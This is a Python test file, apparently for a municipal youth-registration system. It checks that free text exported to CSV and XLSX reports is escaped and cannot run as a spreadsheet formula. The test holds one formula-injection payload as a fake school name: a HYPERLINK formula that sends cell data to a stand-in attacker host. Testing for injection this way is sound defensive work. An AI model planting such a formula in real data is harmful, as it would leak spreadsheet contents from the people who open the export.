"""Free text that reaches an exported spreadsheet cannot run as a formula there."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from bot.staff import actor_for
from storage.audit import Actor
from storage.cases import CaseService, RegistrationInput
from storage.demo import fictitious_personnummer
from storage.reports.export import to_csv, to_xlsx
from storage.reports.kpi import key_figures
from storage.reports.period import parse_period

SYSTEM = Actor(label="test", municipality_id=None, role="system")
REGISTERED_ON = date(2026, 2, 2)
SCHOOL = '=HYPERLINK("https://evil.example.org/?d="&A1;"Öppna")'


async def test_a_school_name_is_exported_as_text_not_a_formula(sessionmaker):
    cases = CaseService(sessionmaker)
    await cases.add_municipality(SYSTEM, "0580", "Linköping")
    anna = actor_for(await cases.add_staff(SYSTEM, "aad-anna", "Anna", "coordinator", "0580"))
    chef = actor_for(await cases.add_staff(SYSTEM, "aad-chef", "Chef", "manager", "0580"))
    await cases.register_youth(
        anna,
        RegistrationInput(
            personnummer=fictitious_personnummer(date(2008, 1, 20), 71, "man"),
            first_name="Ivar",
            last_name="Injektionsson",
            registered_on=REGISTERED_ON,
            registration_reason="avbrott_nationellt",
            source="gymnasieskola",
            school=SCHOOL,
        ),
        today=REGISTERED_ON,
    )
    table = (await key_figures(sessionmaker, chef, parse_period("2026H1"))).to_table()
    assert any(SCHOOL in row for row in table.rows), "the school should be in the report"

    text = to_csv(table).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + SCHOOL in cells
    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in cells if cell)

    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert "'" + SCHOOL in values
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row), (
        "no cell may be a formula"
    )
